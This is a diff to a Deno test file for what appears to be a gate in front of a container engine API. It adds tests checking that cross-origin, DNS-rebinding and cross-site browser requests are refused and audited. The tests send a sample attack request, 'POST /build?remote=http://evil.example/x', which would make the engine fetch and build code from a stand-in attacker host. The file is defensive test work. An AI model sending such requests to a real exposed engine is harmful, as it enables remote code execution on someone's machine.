@@ -129,7 +129,9 @@ Deno.test("a gate that drains refuses newcomers and lets what runs finish", asyn
       (await bench.client()).close();
       await new Promise((resolve) => setTimeout(resolve, 10));
     } catch (error) {
-      assert.ok(error instanceof Deno.errors.ConnectionRefused);
+      // Who was on his way when the port was closed is reset.
+      if (error instanceof Deno.errors.ConnectionReset) continue;
+      assert.ok(error instanceof Deno.errors.ConnectionRefused, `${error}`);
       refused = true;
     }
   }
@@ -139,3 +141,27 @@ Deno.test("a gate that drains refuses newcomers and lets what runs finish", asyn
   assert.match(await client.message(), /200/);
   await draining;
 });
+
+for (
+  const [what, head] of [
+    ["a request across origins", "Host: 127.0.0.1:2375\r\nOrigin: https://evil.example"],
+    ["a name that was pointed to this machine", "Host: evil.example:2375"],
+    ["a form that needs no consent", "Host: localhost\r\nSec-Fetch-Site: cross-site"],
+  ] as const
+) {
+  Deno.test(`a page in a browser gets nothing: ${what}`, async () => {
+    await using bench = await TcpBench.open([rule({ addresses: home, policy: "full" })]);
+    using client = await bench.client();
+    // The engine would fetch and build it, and wants no body for that.
+    const build = "POST /build?remote=http://evil.example/x HTTP/1.1\r\n";
+    for (let n = 0; n < 2; n++) {
+      await client.send(`${build}${head}\r\nContent-Length: 0\r\n\r\n`);
+      assert.match(
+        await client.message(),
+        /^HTTP\/1.1 403 [^]*a page in a browser on this machine/,
+      );
+    }
+    const [record] = await bench.audit(2);
+    assert.deepEqual([record.decision, record.rule], ["deny", "foreign page"]);
+  });
+}
